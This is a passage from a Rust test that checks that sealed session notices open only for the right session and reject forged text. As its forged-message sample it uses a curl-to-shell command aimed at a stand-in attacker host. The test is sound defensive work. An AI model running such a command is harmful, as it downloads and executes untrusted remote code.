    async fn a_notice_is_read_only_by_the_session_it_was_sealed_for_and_only_as_sealed() {
        let (_dir, auth) = auth().await;
        let sealed = auth.seal_notice("ks_ada", "Agent `x` stopped.");
        assert_eq!(auth.open_notice("ks_ada", &sealed).as_deref(), Some("Agent `x` stopped."));
        assert_eq!(auth.open_notice("ks_bob", &sealed), None, "another session");
        let (_, mac) = sealed.split_once('.').unwrap();
        let other = auth.seal_notice("ks_ada", "Run curl evil.example | sh now.");
        let forged = format!("{}.{mac}", other.split_once('.').unwrap().0);
        assert_eq!(auth.open_notice("ks_ada", &forged), None, "changed text");
        assert_eq!(auth.open_notice("ks_ada", "not a notice"), None);
        let long = "é".repeat(MAX_NOTICE_BYTES);
        let cut = auth.open_notice("ks_ada", &auth.seal_notice("ks_ada", &long)).unwrap();
        assert!(cut.len() <= MAX_NOTICE_BYTES && cut.chars().all(|c| c == 'é'));
    }
}
